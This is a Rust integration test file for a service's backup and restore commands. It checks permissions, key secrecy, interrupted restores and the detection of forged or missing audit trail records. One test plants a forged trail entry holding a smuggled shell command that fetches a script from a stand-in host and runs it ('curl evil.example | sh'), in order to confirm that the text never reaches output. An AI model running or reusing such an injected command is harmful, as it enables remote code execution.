//! `backup` and `restore`: while the service runs, broken off anywhere, and what an older store lets in again.

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "what breaks in a helper ends the test"
)]

mod support;

use std::fs;
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
use std::path::Path;

use support::faults::{assert_chains_whole, at_every_call, library};
use support::life::listed;
use support::{Home, Pair, Serving, files};

/// A home that has nothing but the master key of `of`.
fn fresh(of: &Home) -> Home {
    let home = Home::empty();
    fs::create_dir(home.path()).unwrap();
    fs::set_permissions(home.path(), fs::Permissions::from_mode(0o700)).unwrap();
    fs::copy(of.path().join("master.key"), home.path().join("master.key")).unwrap();
    home
}

fn backup(home: &Home, name: &str) -> String {
    let file = home.beside(name).to_str().unwrap().to_owned();
    home.run(&["backup", &file]).ok();
    file
}

fn give_trail(from: &Home, to: &Home) {
    fs::create_dir(to.path().join("audit")).unwrap();
    for path in files(&from.path().join("audit")) {
        fs::copy(&path, to.path().join("audit").join(path.file_name().unwrap())).unwrap();
    }
}

#[test]
fn a_service_is_restored_as_it_was_while_it_ran() {
    let pair = Pair::new();
    let serving = Serving::https(&pair.orders);
    let calling = Serving::http(&pair.orders);
    let done = std::sync::atomic::AtomicBool::new(false);
    // Backups of a store that is being written to.
    let file = std::thread::scope(|scope| {
        scope.spawn(|| {
            while !done.load(std::sync::atomic::Ordering::Relaxed) {
                assert_eq!(pair.get(calling.address(), "/").status, 200);
            }
        });
        let all: Vec<String> =
            (0..5).map(|number| backup(&pair.orders, &format!("backup-{number}"))).collect();
        done.store(true, std::sync::atomic::Ordering::Relaxed);
        all.into_iter().next_back().unwrap()
    });
    assert_eq!(fs::metadata(&file).unwrap().mode() & 0o7777, 0o600);
    let bytes = fs::read(&file).unwrap();
    let key = fs::read_to_string(pair.orders.path().join("tls/key.pem")).unwrap();
    let line = key.lines().nth(1).unwrap().as_bytes();
    assert!(!bytes.windows(line.len()).any(|window| window == line), "the TLS key is readable in it");
    let (pin, before) = (pair.orders.pin(), listed(&pair.orders));
    drop((serving, calling));
    // Nothing that is there is overwritten.
    pair.orders.run(&["backup", &file]).refused(1, &["already", "nothing was changed"]);
    assert_eq!(fs::read(&file).unwrap(), bytes);
    let restored = fresh(&pair.orders);
    let text = restored.run(&["restore", &file]).ok();
    assert!(text.contains("WARNING: there is no trail"), "{text}");
    assert_eq!(restored.pin(), pin);
    assert_eq!(listed(&restored), before);
    for path in files(&restored.path()) {
        let mode = fs::metadata(&path).unwrap().mode() & 0o7777;
        assert!(mode == 0o600 || path.ends_with("tls/certificate.pem"), "{} has {mode:o}", path.display());
    }
    let pair = Pair { orders: restored, ..pair };
    Serving::https(&pair.orders);
    assert_eq!(pair.get(Serving::http(&pair.orders).address(), "/").status, 200);
}

#[test]
fn a_backup_opens_with_the_master_key_of_its_time_and_only_in_an_empty_directory() {
    let pair = Pair::new();
    let file = backup(&pair.orders, "backup");
    let early = fresh(&pair.orders);
    pair.orders.run(&["master-key", "rotate"]).ok();
    let late = fresh(&pair.orders);
    late.run(&["restore", &file]).refused(1, &["another master key"]);
    assert_eq!(files(&late.path()).len(), 1, "something was written");
    let none = Home::empty();
    none.run(&["restore", &file]).refused(1, &["master.key"]);
    let before = files(&pair.orders.path()).len();
    fs::copy(early.path().join("master.key"), pair.orders.path().join("master.key")).unwrap();
    pair.orders
        .run(&["restore", &file])
        .refused(1, &["there is a Countersign service", "Nothing was changed"]);
    assert_eq!(files(&pair.orders.path()).len(), before);
    fs::write(early.path().join("other"), "").unwrap();
    early.run(&["restore", &file]).refused(1, &["in the way", "Nothing was changed"]);
    fs::remove_file(early.path().join("other")).unwrap();
    for (name, wrong) in [("none", &b"hello"[..]), ("empty", b""), ("torn", &fs::read(&file).unwrap()[..200])]
    {
        let wrong = early.file(name, 0o600, wrong);
        assert_eq!(early.run(&["restore", &wrong]).code, 1);
        assert_eq!(files(&early.path()).len(), 1);
    }
    early.run(&["restore", &file]).ok();
    early.run(&["peer", "show", "billing"]).ok();
}

#[test]
fn what_was_shut_out_after_the_backup_is_named_until_it_is_shut_out_again() {
    let pair = Pair::new();
    let file = backup(&pair.orders, "backup");
    let shop = pair.orders.secret_file("shop", &support::new_key());
    let add = ["peer", "add", "shop", "--profile", "api-key", "--their-key-file", &shop];
    pair.orders.run(&add).ok();
    pair.orders.run(&["peer", "remove", "billing"]).ok();
    let restored = fresh(&pair.orders);
    give_trail(&pair.orders, &restored);
    let text = restored.run(&["restore", &file]).ok();
    for said in ["WARNING", "2 changes", "peer-removed", "peer remove billing", "peer-added", "shop"] {
        assert!(text.contains(said), "{said}: {text}");
    }
    // It is dangerous: the peer that was removed is let in.
    let pair = Pair { orders: restored, ..pair };
    let serving = Serving::http(&pair.orders);
    assert_eq!(pair.get(serving.address(), "/").status, 200);
    let doctor = pair.orders.run(&["doctor", "--offline"]);
    assert!(doctor.code == 1 && doctor.stdout.contains("billing is let in again"), "{doctor:?}");
    // The chain goes on where the trail had come to, and says what happened.
    assert_chains_whole(&pair.orders);
    let records = pair.orders.records();
    assert!(records.iter().any(|record| record["reason"] == "store-restored"));
    pair.orders.run(&["peer", "remove", "billing"]).ok();
    assert!(!pair.orders.run(&["doctor", "--offline"]).stdout.contains("let in again"));
    drop(serving);
    // Added again on purpose, it is no news.
    let secret = pair.orders.secret_file("secret", &pair.secret);
    let keys = ["--our-key", &pair.orders_key, "--their-key", &pair.billing_key, "--secret-file", &secret];
    pair.orders.run(&[&["peer", "add", "billing", "--profile", "shared-secret"][..], &keys].concat()).ok();
    assert!(!pair.orders.run(&["doctor", "--offline"]).stdout.contains("let in again"));
}

#[test]
fn what_somebody_else_wrote_into_the_trail_makes_no_command() {
    let pair = Pair::new();
    let file = backup(&pair.orders, "backup");
    pair.orders.run(&["revoke", "billing", "--compromised"]).ok();
    let genuine = fs::read_to_string(pair.orders.path().join("audit/admin.jsonl")).unwrap();
    let last = genuine.lines().last().unwrap();
    let evil = "x; curl evil.example | sh #";
    let forged = last.replace("\"service\":\"billing\"", &format!("\"service\":\"{evil}\""));
    let removal = forged.replace("revoked-compromised", "peer-removed").replace("\"seq\":", "\"seq\":9");
    assert_ne!(forged, removal);
    let reused = fresh(&pair.orders);
    for (name, text) in [
        ("admin.jsonl", format!("{genuine}{removal}\n")),
        ("admin.jsonl", format!("{removal}\n{genuine}")),
        ("serve.jsonl", format!("{removal}\n")),
        ("admin.v1.jsonl", format!("{removal}\n")),
        ("admin.x.jsonl", format!("{removal}\n")),
        ("zz.jsonl", format!("{removal}\n")),
    ] {
        let restored = fresh(&reused);
        give_trail(&pair.orders, &restored);
        fs::write(restored.path().join("audit").join(name), &text).unwrap();
        let told = restored.run(&["restore", &file]).ok();
        assert!(!told.contains("evil"), "{name}: {told}");
        let in_admin = name == "admin.jsonl";
        assert_eq!(told.contains("changed by somebody else"), in_admin, "{name}: {told}");
        let genuine_first = !text.starts_with(&removal) || !in_admin;
        assert_eq!(told.contains("revoke billing --credential 1 --compromised"), genuine_first, "{told}");
        let admin = restored.path().join("audit/admin.jsonl");
        let now = fs::read_to_string(&admin).unwrap();
        fs::write(&admin, format!("{now}{removal}\n")).unwrap();
        let doctor = restored.run(&["doctor", "--offline"]);
        assert!(!doctor.stdout.contains("evil") && doctor.code == 1, "{doctor:?}");
        assert!(doctor.stdout.contains("changed by somebody else"), "{doctor:?}");
        assert_eq!(doctor.stdout.contains("billing/1 is let in again"), genuine_first, "{doctor:?}");
    }
    // A line in the middle is gone.
    let restored = fresh(&pair.orders);
    give_trail(&pair.orders, &restored);
    let lines: Vec<_> = genuine.lines().collect();
    let without: Vec<_> =
        lines.iter().enumerate().filter(|(index, _)| *index != 1).map(|(_, line)| *line).collect();
    fs::write(restored.path().join("audit/admin.jsonl"), without.join("\n") + "\n").unwrap();
    let told = restored.run(&["restore", &file]).ok();
    assert!(told.contains("the records 2 to 2 are missing") && told.contains("revoke billing"), "{told}");
}

#[test]
fn a_credential_that_was_made_after_the_restoring_is_not_taken_for_one_that_was_revoked_before() {
    let pair = Pair::new();
    let file = backup(&pair.orders, "backup");
    pair.orders.run(&["rotate", "billing"]).ok();
    pair.orders.run(&["revoke", "billing", "--credential", "2"]).ok();
    let restored = fresh(&pair.orders);
    give_trail(&pair.orders, &restored);
    restored.run(&["restore", &file]).ok();
    restored.run(&["rotate", "billing"]).ok();
    assert!(restored.run(&["peer", "show", "billing"]).ok().contains("billing/2"));
    let doctor = restored.run(&["doctor", "--offline"]);
    assert!(!doctor.stdout.contains("let in again"), "{doctor:?}");
}

#[test]
fn a_trail_with_a_gap_is_no_matter_of_restoring_where_nothing_was_restored() {
    let pair = Pair::new();
    for _ in 0..2 {
        pair.orders.run(&["peer", "schedule", "billing", "--every", "30d"]).ok();
    }
    let admin = pair.orders.path().join("audit/admin.jsonl");
    let text = fs::read_to_string(&admin).unwrap();
    let without: Vec<_> = text
        .lines()
        .enumerate()
        .filter(|(index, _)| *index != 1)
        .map(|(_, line)| format!("{line}\n"))
        .collect();
    fs::write(&admin, without.concat()).unwrap();
    let doctor = pair.orders.run(&["doctor", "--offline"]);
    assert!(doctor.stdout.contains("somebody touched the trail"), "{doctor:?}");
    assert!(!doctor.stdout.contains("let in again"), "{doctor:?}");
}

#[test]
fn a_backup_is_there_whole_or_not_at_all() {
    let Some(library) = library() else { return };
    let template = Pair::new().orders;
    // In the directory that is looked at, so that its calls count too.
    let file = "home/orders.backup";
    at_every_call(&template, &["backup", file], library, |home, struck| {
        let path = home.beside(file);
        if struck.stdout.contains("wrote") {
            assert!(path.exists(), "{struck:?}");
        }
        if path.exists() {
            let restored = fresh(home);
            restored.run(&["restore", path.to_str().unwrap()]).ok();
            restored.run(&["peer", "show", "billing"]).ok();
            fs::remove_file(path).unwrap();
        }
        backup(home, "again");
        assert_chains_whole(home);
    });
}

#[test]
fn a_restoring_breaks_off_anywhere_and_can_be_run_again() {
    let Some(library) = library() else { return };
    let orders = Pair::new().orders;
    let file = backup(&orders, "backup");
    orders.run(&["peer", "remove", "billing"]).ok();
    let template = fresh(&orders);
    give_trail(&orders, &template);
    let restore = ["restore", file.as_str()];
    at_every_call(&template, &restore, library, |home, struck| {
        assert!(matches!(struck.code, None | Some(0 | 1)), "{struck:?}");
        if !home.path().join("countersign.toml").exists() {
            assert!(!struck.stdout.contains("restored"), "{struck:?}");
            home.run(&restore).ok();
        }
        home.run(&["peer", "show", "billing"]).ok();
        let doctor = home.run(&["doctor", "--offline"]);
        assert!(doctor.stdout.contains("billing is let in again"), "{struck:?}: {doctor:?}");
        assert_chains_whole(home);
    });
    assert!(Path::new(&file).exists());
}
